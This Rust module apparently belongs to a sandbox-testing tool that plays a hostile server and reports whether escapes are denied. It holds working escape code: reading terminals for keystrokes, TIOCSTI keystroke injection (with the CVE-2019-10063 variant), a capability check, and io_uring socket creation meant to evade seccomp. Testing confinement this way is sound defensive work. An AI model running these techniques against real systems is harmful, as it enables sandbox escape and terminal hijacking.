//! The ways out of a confinement that a hostile server tries (the `probe` tool's
//! `open`, `tiocsti`, `caps` and `uring` keys), each answered `ok ...` or
//! `denied: <error>`. Raw system calls, as an attacker would make them.

#![allow(unsafe_code)]

use std::io;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};

/// Opens `path` read-only without blocking: a terminal opened so can be read for the
/// keystrokes meant for the user's shell.
pub fn open(path: &str) -> Result<String, String> {
    std::fs::OpenOptions::new()
        .read(true)
        .custom_flags_nonblock()
        .open(path)
        .map(|_| String::new())
        .map_err(|e| e.to_string())
}

trait NonBlock {
    fn custom_flags_nonblock(&mut self) -> &mut Self;
}

impl NonBlock for std::fs::OpenOptions {
    fn custom_flags_nonblock(&mut self) -> &mut Self {
        std::os::unix::fs::OpenOptionsExt::custom_flags(self, libc::O_NONBLOCK | libc::O_NOCTTY)
    }
}

/// Pushes `input` into the terminal at `path` with `TIOCSTI`, byte by byte, as if typed;
/// the request is also tried with a high bit set (flatpak's CVE-2019-10063), which the
/// kernel ignores.
pub fn tiocsti(path: &str, input: &str) -> Result<String, String> {
    let tty = std::fs::OpenOptions::new()
        .read(true)
        .write(true)
        .custom_flags_nonblock()
        .open(path)
        .map_err(|e| format!("open: {e}"))?;
    // The C library's request type (`c_ulong` on glibc, `c_int` on musl).
    #[allow(clippy::unnecessary_cast)]
    let tiocsti = libc::TIOCSTI as u64;
    for request in [tiocsti, tiocsti | (1 << 32)] {
        let mut pushed = 0;
        for b in input.bytes() {
            // SAFETY: TIOCSTI reads one byte from the pointer, which lives across the call.
            let r = unsafe { libc::ioctl(tty.as_raw_fd(), request as libc::Ioctl, &b) };
            if r != 0 {
                break;
            }
            pushed += 1;
        }
        if pushed == input.len() {
            return Ok(format!("pushed {pushed} bytes"));
        }
    }
    Err(io::Error::last_os_error().to_string())
}

/// The capability sets of this process, as `/proc/self/status` shows them:
/// `ok` only when all of them are empty.
pub fn caps() -> Result<String, String> {
    let status = std::fs::read_to_string("/proc/self/status").map_err(|e| e.to_string())?;
    let sets: Vec<&str> = status.lines().filter(|l| l.starts_with("Cap")).collect();
    let held = sets.iter().any(|l| {
        l.split_whitespace()
            .nth(1)
            .is_some_and(|v| !v.trim_start_matches('0').is_empty())
    });
    if held {
        Ok(sets.join(", "))
    } else {
        Err(format!("no capability held ({})", sets.join(", ")))
    }
}

/// A socket made by `io_uring` (`IORING_OP_SOCKET`, which no seccomp filter sees), then
/// used: `unix:PATH` and `abstract:NAME` connect and write a line, `udp:ADDR` sends a
/// datagram.
pub fn uring(target: &str) -> Result<String, String> {
    let (domain, kind) = match target.split_once(':') {
        Some(("unix" | "abstract", _)) => (libc::AF_UNIX, libc::SOCK_STREAM),
        Some(("udp", _)) => (libc::AF_INET, libc::SOCK_DGRAM),
        _ => return Err(format!("unknown target {target}")),
    };
    let mut ring = io_uring::IoUring::new(4).map_err(|e| format!("io_uring_setup: {e}"))?;
    let sqe = io_uring::opcode::Socket::new(domain, kind | libc::SOCK_CLOEXEC, 0).build();
    // SAFETY: the entry holds no pointer.
    unsafe { ring.submission().push(&sqe) }.map_err(|e| e.to_string())?;
    ring.submit_and_wait(1)
        .map_err(|e| format!("io_uring_enter: {e}"))?;
    let res = ring
        .completion()
        .next()
        .map(|c| c.result())
        .ok_or("no completion")?;
    if res < 0 {
        return Err(format!(
            "IORING_OP_SOCKET: {}",
            io::Error::from_raw_os_error(-res)
        ));
    }
    // SAFETY: the kernel just made this descriptor for us.
    let fd = unsafe { OwnedFd::from_raw_fd(res) };
    match target.split_once(':') {
        Some(("udp", addr)) => {
            let addr: std::net::SocketAddr = addr.parse().map_err(|e| format!("{e}"))?;
            let s = std::net::UdpSocket::from(fd);
            s.send_to(b"pwned\n", addr)
                .map(|n| format!("sent {n} bytes"))
                .map_err(|e| format!("send: {e}"))
        }
        Some((kind, name)) => {
            use std::os::linux::net::SocketAddrExt;
            let addr = if kind == "abstract" {
                std::os::unix::net::SocketAddr::from_abstract_name(name)
            } else {
                std::os::unix::net::SocketAddr::from_pathname(name)
            }
            .map_err(|e| e.to_string())?;
            connect_unix(&fd, &addr)?;
            let mut s = std::os::unix::net::UnixStream::from(fd);
            io::Write::write_all(&mut s, b"pwned\n").map_err(|e| format!("write: {e}"))?;
            Ok("connected".into())
        }
        None => Err("no target".into()),
    }
}

/// `connect` on a socket made elsewhere (std connects only sockets it makes).
fn connect_unix(fd: &OwnedFd, addr: &std::os::unix::net::SocketAddr) -> Result<(), String> {
    // SAFETY: an all-zero sockaddr_un is valid.
    let mut raw: libc::sockaddr_un = unsafe { std::mem::zeroed() };
    raw.sun_family = libc::AF_UNIX as libc::sa_family_t;
    let bytes: Vec<u8> = if let Some(p) = addr.as_pathname() {
        std::os::unix::ffi::OsStrExt::as_bytes(p.as_os_str()).to_vec()
    } else {
        let name = std::os::linux::net::SocketAddrExt::as_abstract_name(addr).unwrap_or_default();
        std::iter::once(0).chain(name.iter().copied()).collect()
    };
    if bytes.len() >= raw.sun_path.len() {
        return Err("address too long".into());
    }
    for (i, b) in bytes.iter().enumerate() {
        raw.sun_path[i] = *b as libc::c_char;
    }
    let len = std::mem::size_of::<libc::sa_family_t>()
        + bytes.len()
        + usize::from(addr.as_pathname().is_some());
    // SAFETY: `raw` is a sockaddr_un of `len` meaningful bytes, alive across the call.
    let r = unsafe {
        libc::connect(
            fd.as_raw_fd(),
            (&raw as *const libc::sockaddr_un).cast(),
            len as libc::socklen_t,
        )
    };
    if r != 0 {
        return Err(format!("connect: {}", io::Error::last_os_error()));
    }
    Ok(())
}
